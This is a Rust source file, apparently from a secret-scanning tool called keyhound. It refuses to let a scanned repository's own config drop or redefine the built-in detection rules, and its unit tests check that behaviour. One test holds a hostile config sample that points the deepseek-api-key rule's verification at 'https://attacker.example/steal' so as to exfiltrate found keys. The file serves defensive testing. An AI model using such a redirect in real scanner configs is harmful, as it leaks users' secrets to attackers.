//! A scanned repository's own config (`.keyhound.toml`/`.gitleaks.toml`
//! found in the tree, not given with `--config`) is not trusted: it may add
//! rules and allowlists, which only narrow what built-in rules report, but it
//! cannot drop, replace or redirect keyhound's built-in rules. What it tried
//! and was refused is returned, so the scan can say so.

use std::collections::HashMap;
use std::path::Path;

use super::load::{load_config_within, ConfigError, RuleSource};
use super::RuleSet;

/// Built-in rule ids shown in a warning before "and N more".
const NAMES_SHOWN: usize = 5;

/// Loads a discovered config under the repository at `root`; returns the rules
/// in effect and one warning per refused change.
pub fn load_repo_config(path: &Path, root: &Path) -> Result<(RuleSet, Vec<String>), ConfigError> {
    let theirs = load_config_within(path, root)?;
    let mut rules = RuleSet::defaults()?;
    let position: HashMap<String, usize> =
        rules.rules.iter().enumerate().map(|(index, rule)| (rule.id.clone(), index)).collect();
    let mut kept = vec![false; rules.rules.len()];
    let mut replaced = Vec::new();
    for rule in theirs.rules {
        match position.get(&rule.id) {
            // Still keyhound's rule: the config only added allowlists (and keywords or tags).
            Some(&index) if matches!(rule.source, RuleSource::Embedded(_)) => {
                kept[index] = true;
                let added = rule.allowlists.into_iter().filter(|allowlist| allowlist.from_config_file);
                rules.rules[index].allowlists.extend(added);
            }
            Some(&index) => {
                kept[index] = true;
                replaced.push(rule.id);
            }
            None => rules.rules.push(rule),
        }
    }
    let dropped: Vec<String> =
        kept.iter().zip(&rules.rules).filter(|(kept, _)| !**kept).map(|(_, rule)| rule.id.clone()).collect();
    rules.global_allowlists.extend(theirs.global_allowlists.into_iter().filter(|allowlist| allowlist.from_config_file));

    let mut refused = Vec::new();
    let file = path.display();
    if !dropped.is_empty() {
        refused.push(format!(
            "{file} drops {} built-in rule(s) ({}); they stay on, since a scanned repository's config may only \
             add rules and allowlists (give it with --config to honour it)",
            dropped.len(),
            some_of(&dropped)
        ));
    }
    if !replaced.is_empty() {
        refused.push(format!(
            "{file} redefines built-in rule(s) {}; keyhound's own stay in effect, with their verification (give it \
             with --config to honour it)",
            some_of(&replaced)
        ));
    }
    Ok((rules, refused))
}

fn some_of(ids: &[String]) -> String {
    let shown = ids.iter().take(NAMES_SHOWN).cloned().collect::<Vec<_>>().join(", ");
    match ids.len().checked_sub(NAMES_SHOWN) {
        Some(more) if more > 0 => format!("{shown} and {more} more"),
        _ => shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn load(text: &str) -> (RuleSet, Vec<String>) {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::write(root.join(".gitleaks.toml"), text).unwrap();
        load_repo_config(&root.join(".gitleaks.toml"), &root).unwrap()
    }

    fn defaults() -> usize {
        RuleSet::defaults().unwrap().len()
    }

    #[test]
    fn a_config_replacing_all_rules_keeps_the_built_in_ones_and_adds_its_own() {
        let (rules, refused) = load("[[rules]]\nid = \"mine\"\nregex = '''mine_[a-z]{8}'''\n");
        assert_eq!(rules.len(), defaults() + 1);
        assert!(rules.get("mine").is_some() && rules.get("deepseek-api-key").is_some());
        assert_eq!(refused.len(), 1);
        assert!(refused[0].contains(&format!("drops {} built-in rule(s)", defaults())), "{refused:?}");
    }

    #[test]
    fn disabled_rules_stay_on() {
        let (rules, refused) = load("[extend]\nuseDefault = true\ndisabledRules = [\"deepseek-api-key\"]\n");
        assert!(rules.get("deepseek-api-key").is_some());
        assert!(refused[0].contains("drops 1 built-in rule(s) (deepseek-api-key)"), "{refused:?}");
    }

    #[test]
    fn a_redefined_rule_cannot_redirect_verification() {
        let (rules, refused) = load(
            r#"[extend]
useDefault = true
[[rules]]
id = "deepseek-api-key"
regex = '''(sk-[a-f0-9]{32})'''
[rules.verify]
provider = "deepseek"
base_url = "https://attacker.example"
path = "/steal"
live = { status = [200] }
dead = { status = [401] }
"#,
        );
        let verifier = rules.get("deepseek-api-key").unwrap().verify.as_ref().unwrap();
        assert_eq!(verifier.base_url, "https://api.deepseek.com");
        assert!(refused[0].contains("redefines built-in rule(s) deepseek-api-key"), "{refused:?}");
    }

    #[test]
    fn allowlists_narrow_and_are_marked_as_the_configs() {
        let (rules, refused) = load(
            "[extend]\nuseDefault = true\n[allowlist]\npaths = ['''^test/''']\n[[rules]]\nid = \"deepseek-api-key\"\n[rules.allowlist]\nstopwords = [\"dummy\"]\n",
        );
        assert!(refused.is_empty(), "{refused:?}");
        let deepseek = rules.get("deepseek-api-key").unwrap();
        assert_eq!(deepseek.allowlists.iter().filter(|allowlist| allowlist.from_config_file).count(), 1);
        assert_eq!(rules.global_allowlists.iter().filter(|allowlist| allowlist.from_config_file).count(), 1);
        assert_eq!(rules.len(), defaults());
    }

    #[test]
    fn extending_a_file_outside_the_repository_is_refused() {
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("base.toml"), "").unwrap();
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let text = format!("[extend]\npath = \"{}\"\n", outside.path().join("base.toml").display());
        std::fs::write(root.join(".keyhound.toml"), text).unwrap();
        let err = load_repo_config(&root.join(".keyhound.toml"), &root).unwrap_err();
        assert!(err.to_string().contains("outside the scanned repository"), "{err}");
    }
}
